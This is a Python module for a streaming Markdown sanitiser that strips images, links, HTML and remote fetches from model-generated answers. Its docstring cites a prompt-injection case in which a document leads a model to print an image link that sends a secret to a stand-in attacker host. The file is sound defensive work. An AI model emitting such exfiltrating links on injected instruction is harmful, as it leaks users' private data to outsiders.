"""Generated Markdown made harmless while it streams: no image, no link, no HTML, no remote fetch.

A model can be talked into printing `![](https://attacker/?secret)` by a document. What is left is
plain text, code, addresses to copy (as code), and citation markers. The same pass finds the
markers, since both have to know what is code: nothing inside code is interpreted.

Renderers differ in what they take for code, so code is written such that all of them agree: it
closes on its line, a backtick that opens nothing is escaped, a fence begins without indentation.
Where that is not enough (a table cuts code at `|`, `$` begins mathematics for some, a fence in a
list ends with it), code is `defused` like text: it cannot become a link either way.
"""

# ruff: noqa: RUF001 - full-width brackets are meant

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from html import unescape

from functions.answer.safe_constructs import CONSTRUCTS, MAX_HELD, Step, address, literal
from functions.answer.safe_pieces import Piece, defused, numbers_of, parted

__all__ = ["Piece", "SafeMarkdown", "harmless", "numbers_of"]

_AT_ONCE = 1000  # code points; keeps the cost of a hostile megabyte linear
_SPECIAL = re.compile(r"[`<\[【［!\n\\&$@]|https?://|www\.", re.IGNORECASE)
_MAY_BEGIN_ADDRESS = re.compile(
    r"(?<![A-Za-z])(?:h|ht|htt|https?|https?:|https?:/|w|ww|www)$", re.IGNORECASE
)
_FENCE = re.compile(r"[ ]*(`{3,}|~{3,})([^\n]*)")
_DOMAIN = re.compile(r"@[\w.-]*")
_ENTITY = re.compile(r"&(?:#\d{1,7}|#[xX][0-9A-Fa-f]{1,6}|[A-Za-z][A-Za-z0-9]{1,31});")
_HALF_ENTITY = re.compile(r"&#?[A-Za-z0-9]{0,32}")

_NO_STEP: Step = (0, [])


@dataclass(slots=True)
class SafeMarkdown:
    """Turns streamed Markdown into harmless pieces.

    Holds back only what is half open: a bracket, a tag, a code span, an address.
    """

    _held: str = ""
    _fence: str = ""
    _fence_certain: bool = True
    _doubtful: bool = False  # what is code to us may be text to somebody from here on
    _line: str = ""  # what was sent of the current line, as it reads
    _tail: str = field(default="\n")  # the last characters that were sent, as they read
    _after_marker: bool = False

    def feed(self, text: str) -> list[Piece]:
        """Return the pieces that are certain after `text`."""
        pieces: list[Piece] = []
        for start in range(0, len(text), _AT_ONCE):
            self._held += text[start : start + _AT_ONCE]
            pieces += self._drain(final=False)
        return pieces

    def finish(self) -> list[Piece]:
        """Return the rest; what is still half open is plain text."""
        return self._drain(final=True)

    def _drain(self, *, final: bool) -> list[Piece]:
        pieces: list[Piece] = []
        while self._held:
            step = self._fenced(final=final) if self._fence else self._next(final=final)
            if step is None:
                break
            length, found = step
            self._held = self._held[length:]
            for piece in found:
                guarded = self._guarded(piece)
                if guarded.text or guarded.numbers:
                    pieces.append(guarded)
        return pieces

    def _guarded(self, piece: Piece) -> Piece:
        """Keep a piece from forming a link, a tag or other code with what was already sent.

        A marker may be dropped later: what stands around it is looked at as if it were not there.
        """
        if piece.kind == "marker":
            self._after_marker = True
            return piece
        read = piece.reads
        if piece.kind == "text":
            piece = parted(piece, self._tail, after_marker=self._after_marker)
            signs = self._tail[-2:] + read
            self._doubtful |= piece.text == "$" or ":::" in signs or "~~~" in signs
        elif self._tail.endswith("`"):
            piece = Piece("code", " " + piece.text)
        self._after_marker = False
        self._line = (self._line + read).rpartition("\n")[2]
        self._tail = (self._tail + piece.reads)[-16:]
        return piece

    def _next(self, *, final: bool) -> Step | None:
        held = self._held
        if not self._line.strip(" ") and not self._after_marker:
            step = self._fence_opening(final=final)
            if step != _NO_STEP:
                return step
        match = _SPECIAL.search(held)
        if match is None:
            half = None if final else _MAY_BEGIN_ADDRESS.search(held)
            if half is None:
                return len(held), [Piece("text", held)]
            return (half.start(), [Piece("text", held[: half.start()])]) if half.start() else None
        if match.start():
            return match.start(), [Piece("text", held[: match.start()])]
        step = self._construct(held, final=final)
        if step is None and (final or len(held) > MAX_HELD):
            return 1, [literal(held[0])]
        return step

    def _construct(self, held: str, *, final: bool) -> Step | None:
        if held[0] in "\n$":
            return 1, [Piece("text", held[0])]
        own = {"`": self._code, "&": self._entity, "@": self._domain}
        construct = own.get(held[0]) or CONSTRUCTS.get(held[0], address)
        return construct(held, final=final)

    def _fence_opening(self, *, final: bool) -> Step | None:
        """Return the opening line of a fenced block, None to wait, or (0, []) for no fence."""
        head = self._held.lstrip(" ")
        if not final and len(head) < 3 and head in {"", "`", "``", "~", "~~"}:  # noqa: PLR2004
            return None
        match = _FENCE.match(self._held)
        if match is None:
            return _NO_STEP
        end = self._held.find("\n")
        if end < 0 and not final:
            return None if len(self._held) <= MAX_HELD else _NO_STEP
        indent = len(self._line) + len(self._held) - len(head)
        if indent > 3 or (match[1][0] == "`" and "`" in match[2]):  # noqa: PLR2004 - as in CommonMark
            return _NO_STEP
        end = len(self._held) if end < 0 else end + 1
        self._fence = match[1]
        self._fence_certain = not indent and not self._doubtful
        self._doubtful |= not self._fence_certain
        line = self._held[:end]
        return end, [Piece("code", line if self._fence_certain else defused(line))]

    def _fenced(self, *, final: bool) -> Step | None:
        end = self._held.find("\n")
        if end < 0 and not final:
            return None
        end = len(self._held) if end < 0 else end + 1
        line = self._held[:end]
        closing = line.rstrip(" \t\n")
        run = closing.lstrip(" ")
        if (
            len(closing) - len(run) <= 3  # noqa: PLR2004 - as in CommonMark
            and set(run) == {self._fence[0]}
            and len(run) >= len(self._fence)
        ):
            self._fence = ""
        return end, [Piece("code", line if self._fence_certain else defused(line))]

    def _code(self, held: str, *, final: bool) -> Step | None:
        run = re.match(r"`+", held)
        ticks = run[0] if run else "`"
        if len(ticks) == len(held) and not final:
            return None
        line = held.partition("\n")[0]
        close = re.search(rf"(?<!`){ticks}(?!`)", line[len(ticks) :])
        if close and (final or len(ticks) + close.end() < len(held)):
            end = len(ticks) + close.end()
            code = held[:end]
            certain = not self._doubtful and "|" not in code
            return end, [Piece("code", code if certain else defused(code))]
        if final or len(line) < len(held):
            return len(ticks), [literal("`") for _ in ticks]
        return None

    def _entity(self, held: str, *, final: bool) -> Step | None:
        """Write `&#58;` as the character it is, so that it is looked at like any other."""
        if match := _ENTITY.match(held):
            character = unescape(match[0])
            if character != match[0]:
                self._held = character + held[match.end() :]
                return _NO_STEP
        elif not final and _HALF_ENTITY.fullmatch(held):
            return None
        return 1, [Piece("text", "&")]

    def _domain(self, held: str, *, final: bool) -> Step | None:
        """Write what makes an e-mail address of the word before as code."""
        match = _DOMAIN.match(held)
        end = match.end() if match else 1
        if end == len(held) and not final and end <= MAX_HELD:
            return None
        name = held[:end].rstrip("._-")
        if len(name) == 1 or not re.search(r"[\w.+-]$", self._tail):
            return 1, [Piece("text", "@")]
        return len(name), [Piece("code", f"`{name}`")]


def harmless(text: str) -> Iterator[Piece]:
    """Yield the pieces of a whole text."""
    markdown = SafeMarkdown()
    yield from markdown.feed(text)
    yield from markdown.finish()
